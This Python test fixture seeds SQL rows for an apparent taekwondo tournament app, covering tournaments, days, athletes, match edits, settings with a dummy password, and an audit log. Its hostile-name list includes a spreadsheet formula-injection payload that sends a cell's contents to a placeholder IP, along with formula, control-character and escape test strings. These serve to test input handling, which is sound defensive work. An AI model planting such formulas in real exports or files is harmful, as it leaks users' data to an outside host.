"""Rows beside the matches that were played: a tournament with a day, names that try to do harm, settings, an audit."""

from base64 import b64encode

# A formula, a line break and a quote, an emoji, control characters, an escape of the workbook's format, an error value.
HOSTILE = {
    '=HYPERLINK("http://192.0.2.1/?"&A1,"x")': "formula",
    'Anna "the kick"\nLIND, Jr.': "quote and newline",
    "🥋 Ñusta": "emoji",
    "esc\x1b[31m\x07 bell": "controls",
    "_x0041_": "escape",
    "#REF!": "error value",
    "-58kg": "minus",
    "@SUM(A1)": "at",
    "\tTAB": "tab",
}
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + (40).to_bytes(4, "big") + (20).to_bytes(4, "big") + b"\x08\x02\0\0\0"
LOGO_HEX = PNG.hex()
SECRET = b64encode(b"hunter2").decode()


def _athletes() -> str:
    quoted = [name.replace("'", "''") for name in HOSTILE]
    values = ", ".join(f"({900 + at}, 'x{at}', '{name}', '{name}', 'XXX')" for at, name in enumerate(quoted))
    return f"INSERT INTO pss_athletes (id, athlete_code, short_name, long_name, country_code) VALUES {values};"


MORE_ROWS = f"""
INSERT INTO tournaments (id, name, location, country_code, starts_on, ends_on, time_zone, logo, logo_type, status,
    is_active)
VALUES (1, 'Zagreb Open & Friends', 'Zagreb', 'CRO', '2026-03-01', '2026-03-02', 'Europe/Zagreb', x'{LOGO_HEX}',
    'image/png', 'active', 1), (2, 'Old Cup', NULL, NULL, '2025-01-01', '2025-01-01', 'Asia/Tokyo', NULL, NULL,
    'finished', 0);
INSERT INTO tournament_days (id, tournament_id, day_number, date, is_active) VALUES (1, 1, 1, '2026-03-01', 1),
    (2, 1, 2, '2026-03-02', 0);
UPDATE pss_matches SET tournament_day_id = 1 WHERE ring = 'ring-1';
{_athletes()}
INSERT INTO match_edits (edit_id, match_id, match_key, ring, entry, author, reason, changes, made_at)
SELECT 'edit-1', id, match_id, ring, 9, 'ana', 'typed wrong', '{{"match_number":"101.A","phase":"Semifinals"}}',
    '2026-03-01T10:00:00.000000Z' FROM pss_matches WHERE ring = 'ring-1' AND match_number = '101';
DELETE FROM settings_values; DELETE FROM settings_history; DELETE FROM settings_keys;
INSERT INTO settings_keys (id, category_id, key_name, display_name, data_type, default_value, is_sensitive) VALUES
    (1, 2, 'obs.password', 'Password', 'string', '{SECRET}-default', 1),
    (2, 1, 'app.title', 'Title', 'string', 'reStrike', 0),
    (3, 2, 'obs.token', 'Token', 'string', NULL, 1);
INSERT INTO settings_values (key_id, value) VALUES (1, '{SECRET}'), (2, '=1+1');
INSERT INTO operator_audit (done_at, author, action, target, details, outcome) VALUES
    ('2026-03-01T11:00:00.000000Z', 'ana', 'tournament.save', 'Zagreb Open & Friends', '{{"noc":"CRO"}}', 'done'),
    ('2026-03-02T23:30:00.000000Z', 'ben', 'backup.create', NULL, NULL, 'failed');
"""
